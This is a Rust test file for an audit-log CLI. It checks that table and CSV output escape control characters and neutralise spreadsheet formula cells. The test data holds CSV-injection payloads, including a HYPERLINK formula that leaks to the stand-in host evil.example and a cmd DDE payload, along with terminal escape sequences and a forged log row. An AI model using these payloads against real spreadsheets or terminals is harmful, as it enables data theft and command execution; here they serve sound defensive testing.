//! `audit query` output that is safe whatever the trail holds (A4, and the
//! hardening issue's item 9): the table neither panics on a huge field nor
//! lets a control character forge a row; CSV cells a spreadsheet would run
//! as formulas stay text (OWASP, "CSV Injection").

use crate::sessions::standin;
use std::path::{Path, PathBuf};
use std::process::Output;

const T0: &str = "2026-11-21T10:00:00Z";

/// A database with the built-in policy set for `acme` and one session
/// started from `request` (a JSON start request).
pub fn trail(dir: &Path, request: &serde_json::Value) -> PathBuf {
    let db = dir.join("standin.db");
    let out = standin(&db, T0, &["policy", "set", "--tenant", "acme"]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let file = dir.join("start.json");
    std::fs::write(&file, request.to_string()).expect("write request");
    let out = standin(&db, T0, &["session", "start", file.to_str().expect("utf-8")]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    db
}

/// The example start request, with `reason` set.
pub fn start_request(reason: &str) -> serde_json::Value {
    let text =
        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/requests/start-allow.json"))
            .expect("read example");
    let mut request: serde_json::Value = serde_json::from_str(&text).expect("json");
    request["reason"] = reason.into();
    request
}

/// Sets `column` of the `session.started` event behind the host's back
/// (the renderer must cope with anything the database holds).
fn set_column(db: &Path, column: &str, value: &str) {
    let conn = rusqlite::Connection::open(db).expect("open");
    let n = conn
        .execute(
            &format!("UPDATE audit SET {column} = ?1 WHERE event = 'session.started'"),
            [value],
        )
        .expect("update");
    assert_eq!(n, 1);
}

/// The `session.started` row (the policy's `policy.uploaded` comes first).
fn query(db: &Path, format: &str) -> Output {
    let out = standin(
        db,
        T0,
        &["audit", "query", "--event", "session.started", "--format", format],
    );
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    assert!(!String::from_utf8_lossy(&out.stderr).contains("panicked"), "{out:?}");
    out
}

#[test]
fn a4_table_survives_a_field_over_65535_chars() {
    let dir = tempfile::tempdir().expect("temp dir");
    let db = trail(dir.path(), &start_request("ticket SUP-1"));
    let huge = "x".repeat(70_000);
    set_column(&db, "reason", &huge);
    set_column(&db, "action", &huge);
    let out = query(&db, "table");
    let text = String::from_utf8(out.stdout).expect("utf-8");
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 2, "a header and one row: {text:.400}");
    // The table shows the start of the cell and says how much it cut.
    assert!(lines[1].contains("…(+69744 chars)"), "{:.400}", lines[1]);
    assert!(lines.iter().all(|l| l.chars().count() < 1_000), "{text:.400}");
    // The other formats keep the whole value.
    for format in ["jsonl", "csv"] {
        let out = query(&db, format);
        assert!(String::from_utf8_lossy(&out.stdout).contains(&huge), "{format}");
    }
}

#[test]
fn a4_table_escapes_control_characters() {
    let dir = tempfile::tempdir().expect("temp dir");
    let db = trail(dir.path(), &start_request("ticket SUP-1"));
    // An actor id that would print a second, forged row, and an action that
    // would talk to the terminal and reverse the text after it.
    let forged = "u-1\n99    acme    2026-11-21T10:00:00Z  session.ended  u-1  u-42";
    set_column(&db, "actor", forged);
    set_column(&db, "action", "view\u{1b}[2J\u{202e}dne\\n");
    let out = query(&db, "table");
    let text = String::from_utf8(out.stdout).expect("utf-8");
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 2, "the newline must not make a row:\n{text}");
    assert!(lines[1].contains(r"u-1\n99    acme"), "{text}");
    assert!(lines[1].contains(r"view\u{1b}[2J\u{202e}dne\\n"), "{text}");
    assert!(!text.contains(['\u{1b}', '\u{202e}', '\r']), "{text:?}");
}

/// The CSV cells of `text`, RFC 4180 (quoted fields, `""` for a quote).
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let (mut quoted, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    rows
}

#[test]
fn a4_csv_neutralises_formula_cells() {
    let dir = tempfile::tempdir().expect("temp dir");
    let formula = r#"=HYPERLINK("http://evil.example/?leak","SUP-1")"#;
    let db = trail(dir.path(), &start_request(formula));
    for (column, value) in [
        ("actor", "@SUM(1+1)"),
        ("target", "+cmd|' /C calc'!A0"),
        ("action", "-2+3"),
        ("resource", "\t=1"),
        ("session", "plain, with a comma; and \"quotes\"\nand a line"),
    ] {
        set_column(&db, column, value);
    }
    let out = query(&db, "csv");
    let text = String::from_utf8(out.stdout).expect("utf-8");
    assert!(
        text.contains(r#""'=HYPERLINK(""http://evil.example/?leak"",""SUP-1"")""#),
        "{text}"
    );
    let rows = csv_rows(&text);
    assert_eq!(rows.len(), 2, "{text}");
    let cell = |name: &str| {
        let i = rows[0].iter().position(|h| h == name).expect("column");
        rows[1][i].as_str()
    };
    assert_eq!(cell("reason"), format!("'{formula}"));
    assert_eq!(cell("actor"), "'@SUM(1+1)");
    assert_eq!(cell("target"), "'+cmd|' /C calc'!A0");
    assert_eq!(cell("action"), "'-2+3");
    // Control characters are shown escaped, as in the table (below): the
    // tab no longer starts the cell.
    assert_eq!(cell("resource"), "\\t=1");
    // Text that is no formula comes back as it was, line breaks escaped.
    assert_eq!(cell("session"), "plain, with a comma; and \"quotes\"\\nand a line");
    assert_eq!(cell("tenant"), "acme");
    // No cell starts with a formula character.
    for c in &rows[1] {
        assert!(!c.starts_with(['=', '+', '-', '@', '\t', '\r']), "{c:?}");
    }
}

#[test]
fn a4_csv_escapes_control_characters() {
    let dir = tempfile::tempdir().expect("temp dir");
    let db = dir.path().join("standin.db");
    let out = standin(&db, T0, &["policy", "set", "--tenant", "acme"]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    // A refused request: its reason is recorded as sent, a raw escape
    // sequence and line breaks in it.
    let file = dir.path().join("start.json");
    let reason = "SUP-1\u{1b}]0;pwned\u{7}\u{1b}[2J\r\n99,acme,forged\u{202e}";
    std::fs::write(&file, start_request(reason).to_string()).expect("write request");
    let out = standin(&db, T0, &["session", "start", file.to_str().expect("utf-8")]);
    assert_eq!(out.status.code(), Some(2), "{out:?}");
    let out = standin(
        &db,
        T0,
        &["audit", "query", "--event", "session.denied", "--format", "csv"],
    );
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let text = String::from_utf8(out.stdout).expect("utf-8");
    assert!(!text.contains(['\u{1b}', '\u{7}', '\r', '\u{202e}']), "{text:?}");
    assert_eq!(text.lines().count(), 2, "a header and one row: {text:?}");
    let rows = csv_rows(&text);
    let i = rows[0].iter().position(|h| h == "reason").expect("column");
    assert_eq!(
        rows[1][i],
        r"SUP-1\u{1b}]0;pwned\u{7}\u{1b}[2J\r\n99,acme,forged\u{202e}"
    );
    // A backslash is escaped too, so no escape can be forged.
    let conn = rusqlite::Connection::open(&db).expect("open");
    conn.execute("UPDATE audit SET reason = 'a\\nb' WHERE event = 'session.denied'", [])
        .expect("update");
    let out = standin(
        &db,
        T0,
        &["audit", "query", "--event", "session.denied", "--format", "csv"],
    );
    let rows = csv_rows(&String::from_utf8(out.stdout).expect("utf-8"));
    assert_eq!(rows[1][i], r"a\\nb");
}
